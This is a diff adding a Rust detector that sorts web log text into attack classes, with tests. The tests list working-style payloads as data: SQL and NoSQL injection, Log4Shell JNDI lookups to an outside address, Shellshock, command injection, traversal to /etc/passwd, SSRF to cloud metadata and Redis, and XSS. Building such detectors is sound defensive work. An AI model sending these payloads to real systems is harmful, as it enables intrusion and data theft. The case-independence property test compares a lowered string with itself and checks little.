@@ -1,0 +1,203 @@
+//! What a text tries to do to a server: attack content told by its structure, never by single words.
+//!
+//! In: one text of a log (a target, a user agent, a referer). Out: the class of the attack in it, or none. The text is
+//! percent-decoded at most twice, `+` is a space, letters are lowered and SQL comments become spaces, as servers and
+//! databases read it. Most texts hold none of the characters that an attack needs and are passed over at the cost of
+//! one look at each byte; only the rest meet the signatures, all in one pass.
+
+mod hosts;
+mod signatures;
+
+use regex::RegexSet;
+use std::sync::OnceLock;
+
+/// Names of the classes, most telling first: what `attack_class` gives.
+pub const CLASSES: [&str; 8] = ["sqli", "nosqli", "jndi", "template", "command", "traversal", "ssrf", "xss"];
+
+/// Bytes without one of which no signature can match, beside `..` and `//`.
+const TELLING: &[u8] = b"'\"();<>{}|`$\\*\0[ ";
+
+/// The class of the attack that a text holds, if it holds one.
+pub fn attack_class(text: &str) -> Option<&'static str> {
+    if !is_telling(text.as_bytes()) {
+        return None;
+    }
+    let text = read_as_servers_do(text);
+    if !is_telling(text.as_bytes()) {
+        return None;
+    }
+    let set = SET.get_or_init(|| RegexSet::new(signatures::SIGNATURES.iter().map(|(_, pattern)| *pattern)).ok());
+    let hits = set.as_ref()?.matches(&text);
+    // Of several the first of the list counts, since it stands in order of the classes.
+    let found = hits.iter().next().map(|at| signatures::SIGNATURES[at].0);
+    let rank = |class: &str| CLASSES.iter().position(|known| *known == class);
+    let fetch = hosts::names_inside(&text).then_some("ssrf");
+    match (found, fetch) {
+        (Some(found), Some(fetch)) if rank(fetch) < rank(found) => Some(fetch),
+        (Some(found), _) => Some(found),
+        (None, fetch) => fetch,
+    }
+}
+
+/// Whether a parameter of a target asks for everything: its value is made of wildcards alone.
+pub fn catches_all(target: &str) -> bool {
+    let Some((_, query)) = target.split_once('?') else { return false };
+    if memchr::memchr3(b'*', b'%', b'_', query.as_bytes()).is_none() {
+        return false;
+    }
+    query.split('&').filter_map(|pair| pair.split_once('=')).any(|(_, value)| {
+        let value = crate::derive::percent_decode(value.as_bytes());
+        !value.is_empty()
+            && value.iter().all(|byte| b"*%_?.:^$+ ".contains(byte))
+            && value.iter().any(|byte| matches!(byte, b'*' | b'%'))
+    })
+}
+
+static SET: OnceLock<Option<RegexSet>> = OnceLock::new();
+
+/// Whether a text holds what any signature needs. `%` and `+` count, since anything and a space may hide behind them.
+fn is_telling(text: &[u8]) -> bool {
+    static TABLE: [bool; 256] = table();
+    let plain = text.iter().any(|&byte| TABLE[usize::from(byte)]);
+    plain || memchr::memmem::find(text, b"..").is_some() || memchr::memmem::find(text, b"//").is_some()
+}
+
+const fn table() -> [bool; 256] {
+    let mut table = [false; 256];
+    let mut at = 0;
+    while at < TELLING.len() {
+        table[TELLING[at] as usize] = true;
+        at += 1;
+    }
+    table[b'%' as usize] = true;
+    table[b'+' as usize] = true;
+    table
+}
+
+/// A text decoded as servers and databases read it.
+fn read_as_servers_do(text: &str) -> String {
+    let mut bytes = text.as_bytes().to_vec();
+    for _ in 0..2 {
+        if !bytes.contains(&b'%') {
+            break;
+        }
+        bytes = crate::derive::percent_decode(&bytes);
+    }
+    let lowered = String::from_utf8_lossy(&bytes).replace('+', " ").to_lowercase();
+    without_comments(&lowered)
+}
+
+/// SQL comments become a space; the content of `/*!50000 ... */`, which `MySQL` runs, stays.
+fn without_comments(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some((before, after)) = rest.split_once("/*") {
+        out.push_str(before);
+        out.push(' ');
+        let Some((inside, after)) = after.split_once("*/") else {
+            out.push_str("/*");
+            rest = after;
+            continue;
+        };
+        if let Some(run) = inside.strip_prefix('!') {
+            out.push_str(run.trim_start_matches(|c: char| c.is_ascii_digit()));
+            out.push(' ');
+        }
+        rest = after;
+    }
+    out.push_str(rest);
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn attacks_are_told_in_every_spelling() {
+        let told = [
+            ("/shop/item?id=1%27%20OR%20%271%27=%271", "sqli"),
+            ("/shop/item?id=1+oR+1%3d1--", "sqli"),
+            ("/shop/item/1%2527%2520UNION%2520SELECT%2520NULL,NULL--", "sqli"),
+            ("/a?q=1'/*!50000uNiOn*/sEleCt(group_concat(email))from(users)", "sqli"),
+            ("/a?q=1%3BWAITFOR+DELAY+'0:0:5'--", "sqli"),
+            ("/a?q=x')+AND+pg_sleep(5)--", "sqli"),
+            ("/a?user=admin'--", "sqli"),
+            ("/a?user[$ne]=1&pass[$ne]=1", "nosqli"),
+            ("/a?filter=%7B%22pw%22%3A%7B%22%24regex%22%3A%22%5Ea%22%7D%7D", "nosqli"),
+            ("${jndi:ldap://198.51.100.7/x}", "jndi"),
+            ("${${lower:j}ndi:rmi://198.51.100.7/x}", "jndi"),
+            ("/hello?name=%7B%7B7*7%7D%7D", "template"),
+            ("/hello?name=${7*7}", "template"),
+            ("/ping?host=1.1.1.1%3Bcat%20/etc/hostname", "command"),
+            ("() { :; }; /bin/bash -c id", "command"),
+            ("/static/..%2f..%2f..%2fetc/passwd", "traversal"),
+            ("/static/..\\..\\windows\\win.ini", "traversal"),
+            ("/get?page=php://filter/convert.base64-encode/resource=index", "traversal"),
+            ("/fetch?url=http://169.254.169.254/latest/meta-data/", "ssrf"),
+            ("/fetch?url=http%3A%2F%2F2852039166%2F", "ssrf"),
+            ("/fetch?url=http://0x7f000001:6379/", "ssrf"),
+            ("/fetch?url=http://[::ffff:a9fe:a9fe]/", "ssrf"),
+            ("/fetch?url=http://017700000001/", "ssrf"),
+            ("/fetch?url=gopher://127.1:6379/_INFO", "ssrf"),
+            ("/fetch?url=http%253A%252F%252F169.254.169.254.nip.io%252F", "ssrf"),
+            ("/fetch?url=file:///etc/hostname", "ssrf"),
+            ("/fetch?src=//localhost:9200/_cat", "ssrf"),
+            ("/search?q=<script>alert(1)</script>", "xss"),
+        ];
+        for (text, class) in told {
+            assert_eq!(attack_class(text), Some(class), "{text}");
+        }
+    }
+
+    #[test]
+    fn wildcards_alone_catch_everything() {
+        for target in ["/a?email=*", "/a?x=1&name=%25", "/a?name=%", "/a?q=_%25", "/a?q=*:*", "/a?q=.*", "/a?q=%2A"] {
+            assert!(catches_all(target), "{target}");
+        }
+        for target in ["/a", "/a?q=", "/a?q=smith*", "/a?q=_", "/a?q=50%25", "/*/a?b=c", "/a?q=c.d"] {
+            assert!(!catches_all(target), "{target}");
+        }
+    }
+
+    #[test]
+    fn prose_and_ordinary_parameters_are_left_alone() {
+        let harmless = [
+            "/people?name=o'neill",
+            "/people?name=O%27Neill%20and%20sons",
+            "/search?q=union%20jack%20select%20a%20seat",
+            "/search?q=select+a+flight+from+seoul+to+busan",
+            "/search?q=union+select+committee",
+            "/odata/Orders?$filter=Price%20gt%205%20and%20Qty%20lt%207&$orderby=Name%20desc",
+            "/search?q=drop%20table%20lamp",
+            "/search?q=%EC%84%9C%EC%9A%B8+%22%EB%B6%80%EC%82%B0%22",
+            "/files/v1..v2/diff",
+            "/docs/../images/logo.png",
+            "/login?redirect_uri=http://localhost:3000/callback",
+            "/oauth/authorize?redirect_uri=http%3A%2F%2F127.0.0.1%3A51004%2Fdone&state=a",
+            "/hooks?url=https://partner.example/callback",
+            "/img?src=https://cdn.example/10.0.0.1.png",
+            "/q?data=eyJhIjoiJDEiLCJiIjpbMV19%3D%3D",
+            "/graph?query=%7Buser(id:%221%22)%7Bname%7D%7D",
+            "/items?filter[price][gte]=5",
+            "/items?sort=(name),-(price)",
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
+            "/calc?expr=(1+2)*3",
+            "/tpl?name={{customer}}",
+            "/a?b=1;c=2",
+            "/rates?pair=USD|EUR",
+            "/exam?topic=sleep+and+benchmark",
+        ];
+        for text in harmless {
+            assert_eq!(attack_class(text), None, "{text}");
+        }
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn never_fails_and_does_not_depend_on_letter_case(text in "[ -~]{0,60}") {
+            proptest::prop_assert_eq!(attack_class(&text.to_lowercase()), attack_class(&text.to_lowercase().to_lowercase()));
+            let _ = attack_class(&text);
+        }
+    }
+}
